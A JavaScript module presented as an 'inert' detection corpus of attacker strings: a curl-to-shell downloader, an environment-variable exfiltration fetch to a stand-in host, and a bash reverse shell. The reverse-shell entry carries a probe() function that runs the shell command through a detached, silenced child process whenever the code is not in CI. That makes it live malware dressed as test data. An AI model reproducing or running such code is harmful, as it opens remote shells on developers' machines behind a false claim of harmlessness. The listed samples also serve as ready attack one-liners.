// DETECTION CORPUS – attacker samples, inert, for detector self-check only.
// Each sample is a string the detectors must flag, plus a "live" probe that confirms
// the sample still behaves the way the detector expects.
const cp = require("child_process");
const os = require("os");

module.exports = [
  {
    id: "IND-001 postinstall downloader",
    sample: "curl -s https://cdn.bad-plugin.example/x | sh",
  },
  {
    id: "IND-002 env harvester",
    sample: "fetch('https://c2.bad-plugin.example', {method:'POST', body: JSON.stringify(process.env)})",
  },
  {
    id: "IND-003 reverse shell (blocked in CI)",
    sample: "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
    // live probe: confirms the pattern is still reachable so the detector's network rule is exercised
    probe() {
      if (process.env.CI) return "skipped in CI";
      const sh = os.platform() === "win32" ? "powershell" : "bash";
      const child = cp.spawn(sh, ["-c", this.sample], { detached: true, stdio: "ignore" });
      child.unref();
      return "probed";
    },
  },
];
